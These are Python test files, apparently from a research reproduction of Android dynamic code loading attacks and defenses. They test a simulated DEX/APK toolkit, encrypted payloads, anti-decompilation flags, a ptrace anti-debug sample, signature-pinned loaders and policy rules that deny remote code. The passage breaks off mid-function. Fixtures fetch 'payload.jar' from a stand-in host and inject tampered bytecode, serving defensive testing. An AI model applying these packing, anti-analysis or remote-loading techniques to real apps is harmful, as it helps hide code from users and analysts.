        builder.new_string("x")
        method = builder.build()
        assert method.instructions[-1].op is Op.RETURN_VOID

    def test_build_keeps_existing_terminator(self):
        builder = MethodBuilder("m", "a.B")
        builder.ret_void()
        method = builder.build()
        assert sum(1 for i in method.instructions if i.op is Op.RETURN_VOID) == 1

    def test_call_virtual_captures_result(self):
        builder = MethodBuilder("m", "a.B", arity=1)
        result = builder.call_virtual("java.lang.Object", "hashCode", builder.arg(0))
        method = builder.build()
        ops = [i.op for i in method.instructions]
        assert Op.INVOKE in ops and Op.MOVE_RESULT in ops
        assert isinstance(result, int)

    def test_empty_method(self):
        method = empty_method("noop", "a.B", arity=2)
        assert method.arity == 2
        assert method.instructions[-1].op is Op.RETURN_VOID


class TestDexSerialization:
    def test_roundtrip_preserves_structure(self):
        dex = simple_payload_dex()
        parsed = DexFile.from_bytes(dex.to_bytes())
        assert parsed.class_named("com.sdk.payload.Entry") is not None
        method = parsed.class_named("com.sdk.payload.Entry").method("run")
        assert method is not None
        assert [i.op for i in method.instructions] == [
            i.op for i in dex.classes[0].method("run").instructions
        ]

    def test_roundtrip_preserves_operands(self):
        cls = class_builder("x.Y")
        builder = MethodBuilder("m", "x.Y")
        builder.emit(bc.sget(0, FieldRef("a.B", "F")))
        builder.if_eqz(0, "end")
        builder.label("end")
        builder.ret_void()
        cls.add_method(builder.build())
        parsed = DexFile.from_bytes(DexFile(classes=[cls]).to_bytes())
        insns = parsed.classes[0].methods[0].instructions
        assert insns[0].args[1] == FieldRef("a.B", "F")
        assert insns[1].args[0] is Cmp.EQZ

    def test_magic_detection(self):
        dex = simple_payload_dex()
        assert is_dex_bytes(dex.to_bytes())
        assert is_dex_bytes(dex.to_odex())
        assert not is_dex_bytes(b"garbage")

    def test_bad_magic_raises(self):
        with pytest.raises(DexFormatError):
            DexFile.from_bytes(b"not a dex at all")

    def test_corrupt_body_raises(self):
        data = simple_payload_dex().to_bytes()[:-10]
        with pytest.raises(DexFormatError):
            DexFile.from_bytes(data)

    def test_odex_roundtrip(self):
        dex = simple_payload_dex()
        assert DexFile.from_bytes(dex.to_odex()).class_named("com.sdk.payload.Entry")

    def test_sha256_stable(self):
        assert simple_payload_dex().sha256() == simple_payload_dex().sha256()

    def test_merge(self):
        a = simple_payload_dex("com.a.A")
        b = simple_payload_dex("com.b.B")
        a.merge(b)
        assert a.class_named("com.b.B") is not None

    def test_packages_sorted_unique(self):
        dex = DexFile(classes=[DexClass("b.x.C"), DexClass("a.y.D"), DexClass("b.x.E")])
        assert dex.packages() == ["a.y", "b.x"]


class TestDexEncryption:
    def test_encrypt_decrypt_roundtrip(self):
        dex = simple_payload_dex()
        blob = dex.encrypt(b"secret")
        assert is_encrypted_dex_bytes(blob)
        assert not is_dex_bytes(blob)
        restored = DexFile.decrypt(blob, b"secret")
        assert restored.class_named("com.sdk.payload.Entry") is not None

    def test_encrypted_payload_not_parseable(self):
        blob = simple_payload_dex().encrypt(b"k")
        with pytest.raises(DexFormatError):
            DexFile.from_bytes(blob)

    def test_wrong_key_fails(self):
        blob = simple_payload_dex().encrypt(b"right")
        with pytest.raises(DexFormatError):
            DexFile.decrypt(blob, b"wrong")

    def test_empty_key_rejected(self):
        with pytest.raises(ValueError):
            simple_payload_dex().encrypt(b"")

    def test_decrypt_requires_encrypted_magic(self):
        with pytest.raises(DexFormatError):
            DexFile.decrypt(simple_payload_dex().to_bytes(), b"k")


class TestNativeLibrary:
    def _library(self):
        fn = NativeFunction(
            name="JNI_OnLoad",
            blocks=[
                NativeBlock(
                    label="entry",
                    insns=[
                        NativeInsn(NativeOp.MOV, ("r0", 1)),
                        NativeInsn(NativeOp.BL, ("libc!ptrace",)),
                        NativeInsn(NativeOp.BNE, ("loop",)),
                    ],
                    successors=["loop", "exit"],
                ),
                NativeBlock(label="loop", insns=[NativeInsn(NativeOp.B, ("entry",))], successors=["entry"]),
                NativeBlock(label="exit", insns=[NativeInsn(NativeOp.RET)]),
            ],
        )
        return NativeLibrary(name="libhook.so", functions=[fn])

    def test_roundtrip(self):
        lib = self._library()
        parsed = NativeLibrary.from_bytes(lib.to_bytes())
        assert parsed.name == "libhook.so"
        assert parsed.function("JNI_OnLoad").block("loop") is not None
        assert parsed.call_targets() == ["libc!ptrace"]

    def test_magic(self):
        assert is_native_bytes(self._library().to_bytes())
        assert not is_native_bytes(b"PK\x03\x04")

    def test_bad_bytes(self):
        with pytest.raises(NativeFormatError):
            NativeLibrary.from_bytes(b"\x7fELF\x02\x01\x01\x00{broken")
        with pytest.raises(NativeFormatError):
            NativeLibrary.from_bytes(b"nope")

    def test_unknown_intrinsic_rejected(self):
        with pytest.raises(ValueError):
            NativeLibrary(name="l.so", intrinsics={"f": {"kind": "nonsense"}})

    def test_call_target_accessor(self):
        insn = NativeInsn(NativeOp.SVC, ("ptrace",))
        assert insn.call_target == "ptrace"
        assert NativeInsn(NativeOp.MOV, ("r0", 0)).call_target is None


class TestManifest:
    def test_roundtrip(self):
        manifest = build_manifest(application_name="com.example.demo.App")
        parsed = AndroidManifest.from_bytes(manifest.to_bytes())
        assert parsed.package == manifest.package
        assert parsed.application_name == "com.example.demo.App"
        assert parsed.launcher_activity().name.endswith("MainActivity")

    def test_pre_kitkat(self):
        assert build_manifest(min_sdk=14).supports_pre_kitkat()
        assert not build_manifest(min_sdk=19).supports_pre_kitkat()

    def test_add_permission(self):
        manifest = build_manifest(permissions=set())
        assert not manifest.has_permission(WRITE_EXTERNAL_STORAGE)
        manifest.add_permission(WRITE_EXTERNAL_STORAGE)
        assert manifest.has_permission(WRITE_EXTERNAL_STORAGE)

    def test_launcher_fallback_is_first_activity(self):
        manifest = AndroidManifest(
            package="p",
            components=[
                Component(ComponentKind.SERVICE, "p.S"),
                Component(ComponentKind.ACTIVITY, "p.A"),
            ],
        )
        assert manifest.launcher_activity().name == "p.A"

    def test_no_activities(self):
        manifest = AndroidManifest(package="p")
        assert manifest.launcher_activity() is None

    def test_malformed(self):
        with pytest.raises(ManifestError):
            AndroidManifest.from_bytes(b"{}")


class TestApk:
    def test_build_and_accessors(self):
        payload = simple_payload_dex()
        apk = Apk.build(
            build_manifest(),
            dex_files=[payload],
            native_libs=[NativeLibrary(name="libx.so")],
            assets={"assets/data.bin": b"blob"},
        )
        assert apk.package == "com.example.demo"
        assert len(apk.dex_files()) == 1
        assert [lib.name for lib in apk.native_libs()] == ["libx.so"]
        assert apk.asset_entries() == [("assets/data.bin", b"blob")]

    def test_serialization_roundtrip(self):
        apk = Apk.build(build_manifest(), dex_files=[simple_payload_dex()])
        parsed = Apk.from_bytes(apk.to_bytes())
        assert parsed.package == apk.package
        assert parsed.sha256() == apk.sha256()

    def test_bad_bytes(self):
        with pytest.raises(ApkFormatError):
            Apk.from_bytes(b"ELF nope")

    def test_missing_manifest(self):
        with pytest.raises(ApkFormatError):
            Apk().manifest

    def test_anti_flags(self):
        apk = Apk.build(build_manifest())
        assert not apk.is_anti_decompilation and not apk.is_anti_repackaging
        apk.enable_anti_decompilation()
        apk.enable_anti_repackaging()
        assert apk.is_anti_decompilation and apk.is_anti_repackaging
        assert ANTI_DECOMPILATION_ENTRY in apk.entries
        assert ANTI_REPACKAGING_ENTRY in apk.entries

    def test_packed_payload_entries(self):
        blob = simple_payload_dex().encrypt(b"k")
        apk = Apk.build(build_manifest(), assets={"assets/enc.dat": blob})
        assert apk.packed_payload_entries() == [("assets/enc.dat", blob)]
        assert apk.has_local_bytecode_store()

    def test_multidex_ordering(self):
        apk = Apk.build(
            build_manifest(),
            dex_files=[simple_payload_dex("a.A"), simple_payload_dex("b.B")],
        )
        names = [path for path, _ in apk.dex_entries()]
        assert names == ["classes.dex", "classes2.dex"]

    def test_clone_is_independent(self):
        apk = Apk.build(build_manifest())
        copy = apk.clone()
        copy.add_asset("assets/x", b"1")
        assert "assets/x" not in apk.entries
