"""Tests for the DCL defenses: secure loader and policy engine."""

import pytest

from repro.android.apk import Apk
from repro.android.dex import DexFile
from repro.defense.policy import (
    PolicyContext,
    PolicyEngine,
    PolicyRule,
    PolicyVerdict,
    default_policy,
)
from repro.defense.secure_loader import (
    CodeVerificationError,
    PayloadManifest,
    SecureDexClassLoader,
    sign_payload,
)
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.runtime.device import Device
from repro.runtime.instrumentation import DexLoadEvent, Instrumentation
from repro.runtime.objects import VMException
from repro.runtime.vm import DalvikVM

from tests.helpers import build_manifest, downloads_and_loads_app, simple_payload_dex


class TestPayloadManifest:
    def test_pin_and_verify(self):
        manifest = PayloadManifest(signing_key=b"release-key")
        data = simple_payload_dex().to_bytes()
        manifest.pin("plugin", data)
        manifest.verify("plugin", data)  # no raise

    def test_unpinned_digest_rejected(self):
        manifest = PayloadManifest(signing_key=b"release-key")
        manifest.pin("plugin", simple_payload_dex("com.a.A").to_bytes())
        with pytest.raises(CodeVerificationError):
            manifest.verify("plugin", simple_payload_dex("com.b.B").to_bytes())

    def test_unknown_payload_name_rejected(self):
        manifest = PayloadManifest(signing_key=b"k")
        with pytest.raises(CodeVerificationError):
            manifest.verify("never-pinned", b"data")

    def test_multiple_versions_allowed(self):
        manifest = PayloadManifest(signing_key=b"k")
        v1 = simple_payload_dex("com.p.V1").to_bytes()
        v2 = simple_payload_dex("com.p.V2").to_bytes()
        manifest.pin("plugin", v1)
        manifest.pin("plugin", v2)
        manifest.verify("plugin", v1)
        manifest.verify("plugin", v2)

    def test_signature_is_keyed(self):
        data = b"payload"
        assert sign_payload(data, b"key-a") != sign_payload(data, b"key-b")


class TestSecureLoader:
    def _vm_with_file(self, path, data):
        device = Device()
        vm = DalvikVM(device, Instrumentation())
        vm.install_app(Apk.build(build_manifest("com.victim.app"), dex_files=[DexFile()]))
        device.vfs.write(path, data, owner="com.victim.app")
        return vm

    def test_verified_load_succeeds(self):
        payload = simple_payload_dex("com.plugin.Entry")
        path = "/data/data/com.victim.app/files/plugin.jar"
        vm = self._vm_with_file(path, payload.to_bytes())
        manifest = PayloadManifest(signing_key=b"k")
        manifest.pin("plugin", payload.to_bytes())
        loader = SecureDexClassLoader(manifest, vm)
        handle = loader.load_class("plugin", path, "/data/data/com.victim.app/cache", "com.plugin.Entry")
        assert handle.payload == "com.plugin.Entry"
        assert loader.verified_loads == [path]

    def test_tampered_payload_blocked(self):
        # The Table IX attack, with the defense in place: the attacker
        # swaps the file, the loader refuses, nothing executes.
        genuine = simple_payload_dex("com.plugin.Entry")
        hostile = simple_payload_dex("com.plugin.Entry")
        hostile.classes[0].method("run").instructions.insert(0, __import__("repro.android.bytecode", fromlist=["const"]).const(7, "evil"))
        path = "/data/data/com.victim.app/files/plugin.jar"
        vm = self._vm_with_file(path, hostile.to_bytes())
        manifest = PayloadManifest(signing_key=b"k")
        manifest.pin("plugin", genuine.to_bytes())
        loader = SecureDexClassLoader(manifest, vm)
        with pytest.raises(VMException) as excinfo:
            loader.load_class("plugin", path, "/odex", "com.plugin.Entry")
        assert excinfo.value.class_name == "java.lang.SecurityException"
        assert loader.rejected_loads == [path]
        assert "com.plugin.Entry" not in vm.class_space

    def test_missing_file(self):
        vm = self._vm_with_file("/data/data/com.victim.app/files/x", b"y")
        loader = SecureDexClassLoader(PayloadManifest(signing_key=b"k"), vm)
        with pytest.raises(VMException) as excinfo:
            loader.load_class("plugin", "/nope.jar", "/odex", "com.plugin.Entry")
        assert excinfo.value.class_name == "java.io.FileNotFoundException"


def _dex_event(paths, package="com.app"):
    return DexLoadEvent(
        dex_paths=tuple(paths),
        odex_dir=None,
        loader_kind="DexClassLoader",
        call_site=None,
        stack=(),
        app_package=package,
        timestamp_ms=0,
    )


class TestPolicyEngine:
    def test_remote_code_denied(self):
        apk = downloads_and_loads_app()
        report = AppExecutionEngine(
            EngineOptions(
                remote_resources={
                    "http://cdn.sdk-demo.com/payload.jar": simple_payload_dex().to_bytes()
                }
            )
        ).run(apk)
        engine = PolicyEngine()
        context = PolicyContext(
            app_package=apk.package, manifest=apk.manifest, tracker=report.tracker
        )
        denials = engine.evaluate_session(context, dex_events=report.dcl.dex_events)
        assert any(d.rule == "remote-code" for d in denials)
        assert engine.would_block(report.intercepted[0].path)

    def test_local_code_allowed(self):
        from tests.helpers import local_loader_app

        apk, _ = local_loader_app()
        report = AppExecutionEngine(EngineOptions()).run(apk)
        engine = PolicyEngine()
        context = PolicyContext(
            app_package=apk.package, manifest=apk.manifest, tracker=report.tracker
        )
        denials = engine.evaluate_session(context, dex_events=report.dcl.dex_events)
        assert denials == []

    def test_foreign_writable_rules(self):
        manifest = build_manifest("com.app", min_sdk=14)
        engine = PolicyEngine()
        context = PolicyContext(app_package="com.app", manifest=manifest)
        denials = engine.evaluate_session(
            context,
            dex_events=[_dex_event(["/mnt/sdcard/x.jar", "/data/data/com.other/y.jar"])],
        )
        reasons = {d.rule for d in denials}
        assert "foreign-writable" in reasons
        assert len([d for d in denials if d.rule == "foreign-writable"]) == 2

    def test_external_storage_allowed_post_kitkat(self):
        manifest = build_manifest("com.app", min_sdk=21)
        engine = PolicyEngine()
        context = PolicyContext(app_package="com.app", manifest=manifest)
        denials = engine.evaluate_session(
            context, dex_events=[_dex_event(["/mnt/sdcard/x.jar"])]
        )
        assert denials == []

    def test_world_writable_file_rule(self):
        device = Device()
        device.vfs.write(
            "/data/data/com.app/shared/p.jar", b"x", owner="com.app", world_writable=True
        )
        manifest = build_manifest("com.app")
        engine = PolicyEngine()
        context = PolicyContext(
            app_package="com.app", manifest=manifest, vfs=device.vfs
        )
        denials = engine.evaluate_session(
            context, dex_events=[_dex_event(["/data/data/com.app/shared/p.jar"])]
        )
        assert [d.rule for d in denials] == ["world-writable-file"]

    def test_custom_rule(self):
        rule = PolicyRule("no-jars", lambda ctx, path: "jar" if path.endswith(".jar") else None)
        engine = PolicyEngine([rule])
        context = PolicyContext(app_package="com.app", manifest=build_manifest("com.app"))
        denials = engine.evaluate_session(context, dex_events=[_dex_event(["/a/x.jar"])])
        assert denials[0].verdict is PolicyVerdict.DENY

    def test_default_policy_names(self):
        assert [r.name for r in default_policy()] == [
            "remote-code",
            "foreign-writable",
            "world-writable-file",
        ]
