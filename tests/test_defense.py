"""Tests for the DCL defenses: secure loader, policy engine, firewall, debloat."""

import pytest

from repro.android.apk import Apk
from repro.android.dex import DexFile
from repro.defense.debloat import (
    SHELVED_SUFFIX,
    debloat_apk,
    debloat_corpus,
)
from repro.defense.evaluation import evaluate_defense, hazard_kind
from repro.defense.firewall import (
    QuarantineStore,
    known_malware_rule,
    replay_quarantined,
)
from repro.defense.policy import (
    PolicyContext,
    PolicyEngine,
    PolicyRule,
    PolicyVerdict,
    default_policy,
)
from repro.defense.secure_loader import (
    CodeVerificationError,
    PayloadManifest,
    SecureDexClassLoader,
    sign_payload,
)
from repro.dynamic.dcl_logger import DclLogger
from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions
from repro.runtime.device import Device
from repro.runtime.instrumentation import DexLoadEvent, Instrumentation
from repro.runtime.objects import VMException
from repro.runtime.vm import DalvikVM

from tests.helpers import (
    build_manifest,
    downloads_and_loads_app,
    local_loader_app,
    simple_payload_dex,
)


class TestPayloadManifest:
    def test_pin_and_verify(self):
        manifest = PayloadManifest(signing_key=b"release-key")
        data = simple_payload_dex().to_bytes()
        manifest.pin("plugin", data)
        manifest.verify("plugin", data)  # no raise

    def test_unpinned_digest_rejected(self):
        manifest = PayloadManifest(signing_key=b"release-key")
        manifest.pin("plugin", simple_payload_dex("com.a.A").to_bytes())
        with pytest.raises(CodeVerificationError):
            manifest.verify("plugin", simple_payload_dex("com.b.B").to_bytes())

    def test_unknown_payload_name_rejected(self):
        manifest = PayloadManifest(signing_key=b"k")
        with pytest.raises(CodeVerificationError):
            manifest.verify("never-pinned", b"data")

    def test_multiple_versions_allowed(self):
        manifest = PayloadManifest(signing_key=b"k")
        v1 = simple_payload_dex("com.p.V1").to_bytes()
        v2 = simple_payload_dex("com.p.V2").to_bytes()
        manifest.pin("plugin", v1)
        manifest.pin("plugin", v2)
        manifest.verify("plugin", v1)
        manifest.verify("plugin", v2)

    def test_signature_is_keyed(self):
        data = b"payload"
        assert sign_payload(data, b"key-a") != sign_payload(data, b"key-b")


class TestSecureLoader:
    def _vm_with_file(self, path, data):
        device = Device()
        vm = DalvikVM(device, Instrumentation())
        vm.install_app(Apk.build(build_manifest("com.victim.app"), dex_files=[DexFile()]))
        device.vfs.write(path, data, owner="com.victim.app")
        return vm

    def test_verified_load_succeeds(self):
        payload = simple_payload_dex("com.plugin.Entry")
        path = "/data/data/com.victim.app/files/plugin.jar"
        vm = self._vm_with_file(path, payload.to_bytes())
        manifest = PayloadManifest(signing_key=b"k")
        manifest.pin("plugin", payload.to_bytes())
        loader = SecureDexClassLoader(manifest, vm)
        handle = loader.load_class("plugin", path, "/data/data/com.victim.app/cache", "com.plugin.Entry")
        assert handle.payload == "com.plugin.Entry"
        assert loader.verified_loads == [path]

    def test_tampered_payload_blocked(self):
        # The Table IX attack, with the defense in place: the attacker
        # swaps the file, the loader refuses, nothing executes.
        genuine = simple_payload_dex("com.plugin.Entry")
        hostile = simple_payload_dex("com.plugin.Entry")
        hostile.classes[0].method("run").instructions.insert(0, __import__("repro.android.bytecode", fromlist=["const"]).const(7, "evil"))
        path = "/data/data/com.victim.app/files/plugin.jar"
        vm = self._vm_with_file(path, hostile.to_bytes())
        manifest = PayloadManifest(signing_key=b"k")
        manifest.pin("plugin", genuine.to_bytes())
        loader = SecureDexClassLoader(manifest, vm)
        with pytest.raises(VMException) as excinfo:
            loader.load_class("plugin", path, "/odex", "com.plugin.Entry")
        assert excinfo.value.class_name == "java.lang.SecurityException"
        assert loader.rejected_loads == [path]
        assert "com.plugin.Entry" not in vm.class_space

    def test_missing_file(self):
        vm = self._vm_with_file("/data/data/com.victim.app/files/x", b"y")
        loader = SecureDexClassLoader(PayloadManifest(signing_key=b"k"), vm)
        with pytest.raises(VMException) as excinfo:
            loader.load_class("plugin", "/nope.jar", "/odex", "com.plugin.Entry")
        assert excinfo.value.class_name == "java.io.FileNotFoundException"


def _dex_event(paths, package="com.app"):
    return DexLoadEvent(
        dex_paths=tuple(paths),
        odex_dir=None,
        loader_kind="DexClassLoader",
        call_site=None,
        stack=(),
        app_package=package,
        timestamp_ms=0,
    )


class TestPolicyEngine:
    def test_remote_code_denied(self):
        apk = downloads_and_loads_app()
        report = AppExecutionEngine(
            EngineOptions(
                remote_resources={
                    "http://cdn.sdk-demo.com/payload.jar": simple_payload_dex().to_bytes()
                }
            )
        ).run(apk)
        engine = PolicyEngine()
        context = PolicyContext(
            app_package=apk.package, manifest=apk.manifest, tracker=report.tracker
        )
        denials = engine.evaluate_session(context, dex_events=report.dcl.dex_events)
        assert any(d.rule == "remote-code" for d in denials)
        assert engine.would_block(report.intercepted[0].path)

    def test_local_code_allowed(self):
        from tests.helpers import local_loader_app

        apk, _ = local_loader_app()
        report = AppExecutionEngine(EngineOptions()).run(apk)
        engine = PolicyEngine()
        context = PolicyContext(
            app_package=apk.package, manifest=apk.manifest, tracker=report.tracker
        )
        denials = engine.evaluate_session(context, dex_events=report.dcl.dex_events)
        assert denials == []

    def test_foreign_writable_rules(self):
        manifest = build_manifest("com.app", min_sdk=14)
        engine = PolicyEngine()
        context = PolicyContext(app_package="com.app", manifest=manifest)
        denials = engine.evaluate_session(
            context,
            dex_events=[_dex_event(["/mnt/sdcard/x.jar", "/data/data/com.other/y.jar"])],
        )
        reasons = {d.rule for d in denials}
        assert "foreign-writable" in reasons
        assert len([d for d in denials if d.rule == "foreign-writable"]) == 2

    def test_external_storage_allowed_post_kitkat(self):
        manifest = build_manifest("com.app", min_sdk=21)
        engine = PolicyEngine()
        context = PolicyContext(app_package="com.app", manifest=manifest)
        denials = engine.evaluate_session(
            context, dex_events=[_dex_event(["/mnt/sdcard/x.jar"])]
        )
        assert denials == []

    def test_world_writable_file_rule(self):
        device = Device()
        device.vfs.write(
            "/data/data/com.app/shared/p.jar", b"x", owner="com.app", world_writable=True
        )
        manifest = build_manifest("com.app")
        engine = PolicyEngine()
        context = PolicyContext(
            app_package="com.app", manifest=manifest, vfs=device.vfs
        )
        denials = engine.evaluate_session(
            context, dex_events=[_dex_event(["/data/data/com.app/shared/p.jar"])]
        )
        assert [d.rule for d in denials] == ["world-writable-file"]

    def test_custom_rule(self):
        rule = PolicyRule("no-jars", lambda ctx, path: "jar" if path.endswith(".jar") else None)
        engine = PolicyEngine([rule])
        context = PolicyContext(app_package="com.app", manifest=build_manifest("com.app"))
        denials = engine.evaluate_session(context, dex_events=[_dex_event(["/a/x.jar"])])
        assert denials[0].verdict is PolicyVerdict.DENY

    def test_default_policy_names(self):
        assert [r.name for r in default_policy()] == [
            "remote-code",
            "foreign-writable",
            "world-writable-file",
        ]


class TestBuiltinRuleGating:
    """The built-in rules keyed off manifest SDK level and VFS state."""

    def _context(self, min_sdk=14, vfs=None, package="com.app"):
        return PolicyContext(
            app_package=package,
            manifest=build_manifest(package, min_sdk=min_sdk),
            vfs=vfs,
        )

    def test_external_storage_gated_on_pre_kitkat_sdk(self):
        # Table IX: external storage is only an injection surface when the
        # app still runs on pre-4.4 devices.
        pre = PolicyEngine().decide(self._context(min_sdk=14), "/mnt/sdcard/p.jar")
        assert pre.rule == "foreign-writable"
        assert pre.verdict is PolicyVerdict.DENY
        post = PolicyEngine().decide(self._context(min_sdk=21), "/mnt/sdcard/p.jar")
        assert post.verdict is PolicyVerdict.ALLOW

    def test_foreign_internal_storage_denied_at_any_sdk(self):
        decision = PolicyEngine().decide(
            self._context(min_sdk=21), "/data/data/com.other/files/p.jar"
        )
        assert decision.rule == "foreign-writable"
        assert "com.other" in decision.reason

    def test_world_writable_file_detected_through_vfs(self):
        device = Device()
        path = "/data/data/com.app/shared/p.jar"
        device.vfs.write(path, b"x", owner="com.app", world_writable=True)
        decision = PolicyEngine().decide(self._context(vfs=device.vfs), path)
        assert decision.rule == "world-writable-file"
        assert decision.verdict is PolicyVerdict.DENY

    def test_world_writable_rule_needs_vfs_and_mode_bit(self):
        # No VFS in context -> rule cannot fire.
        path = "/data/data/com.app/files/p.jar"
        assert PolicyEngine().decide(self._context(vfs=None), path).verdict is PolicyVerdict.ALLOW
        # File present but not world-writable -> allow.
        device = Device()
        device.vfs.write(path, b"x", owner="com.app")
        assert (
            PolicyEngine().decide(self._context(vfs=device.vfs), path).verdict
            is PolicyVerdict.ALLOW
        )


class TestDecideSemantics:
    """decide() is first-match; evaluate_event records every rule."""

    def _context(self):
        return PolicyContext(app_package="com.app", manifest=build_manifest("com.app"))

    def test_first_matching_rule_wins_and_order_matters(self):
        first = PolicyRule("first", lambda ctx, p: "hit")
        second = PolicyRule("second", lambda ctx, p: "hit", PolicyVerdict.QUARANTINE)
        assert PolicyEngine([first, second]).decide(self._context(), "/x").rule == "first"
        flipped = PolicyEngine([second, first]).decide(self._context(), "/x")
        assert flipped.rule == "second"
        assert flipped.verdict is PolicyVerdict.QUARANTINE

    def test_later_rules_not_consulted_after_match(self):
        calls = []

        def tracing(name, reason):
            return PolicyRule(name, lambda ctx, p: calls.append(name) or reason)

        engine = PolicyEngine([tracing("a", "deny"), tracing("b", "deny")])
        engine.decide(self._context(), "/x")
        assert calls == ["a"]

    def test_falls_through_to_allow(self):
        engine = PolicyEngine([PolicyRule("never", lambda ctx, p: None)])
        decision = engine.decide(self._context(), "/x")
        assert decision.verdict is PolicyVerdict.ALLOW
        assert decision.rule == "default"
        # The ALLOW is recorded on the audit trail but is not a denial.
        assert engine.decisions == [decision]
        assert not engine.would_block("/x")

    def test_two_positional_construction_defaults_to_deny(self):
        rule = PolicyRule("legacy", lambda ctx, p: "reason")
        assert rule.action is PolicyVerdict.DENY
        decision = rule.evaluate(self._context(), "/x")
        assert decision.verdict is PolicyVerdict.DENY

    def test_quarantine_action_carried_through_evaluate(self):
        rule = PolicyRule("jail", lambda ctx, p: "reason", PolicyVerdict.QUARANTINE)
        assert rule.evaluate(self._context(), "/x").verdict is PolicyVerdict.QUARANTINE
        # Non-matching paths still come back ALLOW regardless of action.
        benign = PolicyRule("jail", lambda ctx, p: None, PolicyVerdict.QUARANTINE)
        assert benign.evaluate(self._context(), "/x").verdict is PolicyVerdict.ALLOW


class _StubDetection:
    family = "stub-family"


class _ConvictingStore:
    """Duck-typed VerdictStore: every digest is known malware."""

    def get_detection(self, digest):
        return True, _StubDetection()


class _BenignStore:
    """Computed-benign record: found, but no detection."""

    def get_detection(self, digest):
        return True, None


class TestKnownMalwareRule:
    def _context(self, vfs):
        return PolicyContext(
            app_package="com.app", manifest=build_manifest("com.app"), vfs=vfs
        )

    def _vfs_with(self, path, data=b"payload"):
        device = Device()
        device.vfs.write(path, data, owner="com.app")
        return device.vfs

    def test_positive_detection_quarantines(self):
        path = "/data/data/com.app/files/p.jar"
        rule = known_malware_rule(_ConvictingStore())
        decision = rule.evaluate(self._context(self._vfs_with(path)), path)
        assert decision.verdict is PolicyVerdict.QUARANTINE
        assert "stub-family" in decision.reason

    def test_computed_benign_record_does_not_match(self):
        path = "/data/data/com.app/files/p.jar"
        rule = known_malware_rule(_BenignStore())
        decision = rule.evaluate(self._context(self._vfs_with(path)), path)
        assert decision.verdict is PolicyVerdict.ALLOW

    def test_missing_store_or_file_is_allow(self):
        path = "/data/data/com.app/files/p.jar"
        assert (
            known_malware_rule(None)
            .evaluate(self._context(self._vfs_with(path)), path)
            .verdict
            is PolicyVerdict.ALLOW
        )
        assert (
            known_malware_rule(_ConvictingStore())
            .evaluate(self._context(Device().vfs), "/nope.jar")
            .verdict
            is PolicyVerdict.ALLOW
        )


REMOTE_URL = "http://cdn.sdk-demo.com/payload.jar"


class TestFirewallEnforcement:
    def _run_remote(self, policy):
        apk = downloads_and_loads_app()
        options = EngineOptions(
            remote_resources={REMOTE_URL: simple_payload_dex().to_bytes()},
            firewall_policy=policy,
        )
        return AppExecutionEngine(options).run(apk)

    def test_deny_blocks_payload_but_app_continues(self):
        report = self._run_remote("default")
        # The hostile payload never executed...
        assert not any("loaded-code-ran" in line for line in report.logcat)
        # ...but the session is not a crash: the app continues degraded.
        assert report.outcome is DynamicOutcome.EXERCISED
        assert report.firewall_policy == "default"
        assert report.loads_denied >= 1
        assert any(
            d.verdict == "deny" and d.rule == "remote-code"
            for d in report.firewall_decisions
        )

    def test_denied_load_still_measured(self):
        # Complete mediation: the firewall decides after the DCL log and
        # interceptor have seen the event, so enforcement never blinds
        # measurement.
        report = self._run_remote("default")
        assert report.dcl.dex_events
        assert report.intercepted

    def test_observe_mode_records_without_blocking(self):
        report = self._run_remote("observe")
        assert any("loaded-code-ran" in line for line in report.logcat)
        assert report.loads_denied >= 1  # verdicts recorded, not enforced

    def test_unenforced_baseline_has_no_decisions(self):
        report = self._run_remote(None)
        assert report.firewall_policy == ""
        assert report.firewall_decisions == []
        assert any("loaded-code-ran" in line for line in report.logcat)

    def test_quarantine_preserves_payload_and_replays(self, tmp_path):
        apk, payload = local_loader_app()
        options = EngineOptions(
            firewall_policy="default",
            verdict_store=_ConvictingStore(),
            quarantine_dir=str(tmp_path),
        )
        report = AppExecutionEngine(options).run(apk)
        assert report.loads_quarantined >= 1
        assert not any("loaded-code-ran" in line for line in report.logcat)

        store = QuarantineStore(tmp_path)
        assert len(store) == 1
        digest = store.digests()[0]
        meta = store.metadata(digest)
        assert meta["rule"] == "known-malware"
        assert store.read_payload(digest) == payload.to_bytes()

        replay = replay_quarantined(store, digest)
        assert replay["dex_events"] >= 1
        assert replay["error"] is None
        assert replay["rule"] == "known-malware"
        assert replay["sandbox_path"].startswith("/data/data/com.repro.sandbox/")

    def test_benign_verdict_store_lets_local_code_run(self, tmp_path):
        apk, _ = local_loader_app()
        options = EngineOptions(
            firewall_policy="default",
            verdict_store=_BenignStore(),
            quarantine_dir=str(tmp_path),
        )
        report = AppExecutionEngine(options).run(apk)
        assert any("loaded-code-ran" in line for line in report.logcat)
        assert report.loads_denied == 0 and report.loads_quarantined == 0
        assert QuarantineStore(tmp_path).digests() == []


class TestSecureLoaderRejectionEvents:
    def test_rejection_surfaces_on_the_dcl_log(self):
        device = Device()
        instrumentation = Instrumentation()
        logger = DclLogger().attach(instrumentation)
        vm = DalvikVM(device, instrumentation)
        vm.install_app(
            Apk.build(build_manifest("com.victim.app"), dex_files=[DexFile()])
        )
        path = "/data/data/com.victim.app/files/plugin.jar"
        device.vfs.write(
            path, simple_payload_dex("com.b.B").to_bytes(), owner="com.victim.app"
        )
        manifest = PayloadManifest(signing_key=b"k")
        manifest.pin("plugin", simple_payload_dex("com.a.A").to_bytes())
        loader = SecureDexClassLoader(manifest, vm)
        with pytest.raises(VMException):
            loader.load_class("plugin", path, "/odex", "com.b.B")
        assert logger.has_rejections
        assert logger.rejected_paths() == [path]
        (event,) = logger.rejected_events
        assert event.payload_name == "plugin"
        assert "plugin" in event.reason


def _loader_app(package="com.example.debloat", dead_sites=True):
    """An activity with one reachable loader site; optionally two dead ones."""
    from repro.android.builders import MethodBuilder, class_builder
    from tests.helpers import emit_load_dex

    activity_name = "{}.MainActivity".format(package)
    activity = class_builder(activity_name, superclass="android.app.Activity")

    on_create = MethodBuilder("onCreate", activity_name, arity=1)
    emit_load_dex(
        on_create,
        "/data/data/{}/cache/live.jar".format(package),
        "/data/data/{}/cache/odex".format(package),
    )
    on_create.ret_void()
    activity.add_method(on_create.build())

    if dead_sites:
        dead_dex = MethodBuilder("legacyPluginPath", activity_name, arity=1)
        emit_load_dex(
            dead_dex,
            "/data/data/{}/cache/old.jar".format(package),
            "/data/data/{}/cache/odex".format(package),
        )
        dead_dex.ret_void()
        activity.add_method(dead_dex.build())

        dead_native = MethodBuilder("legacyNativeInit", activity_name, arity=0)
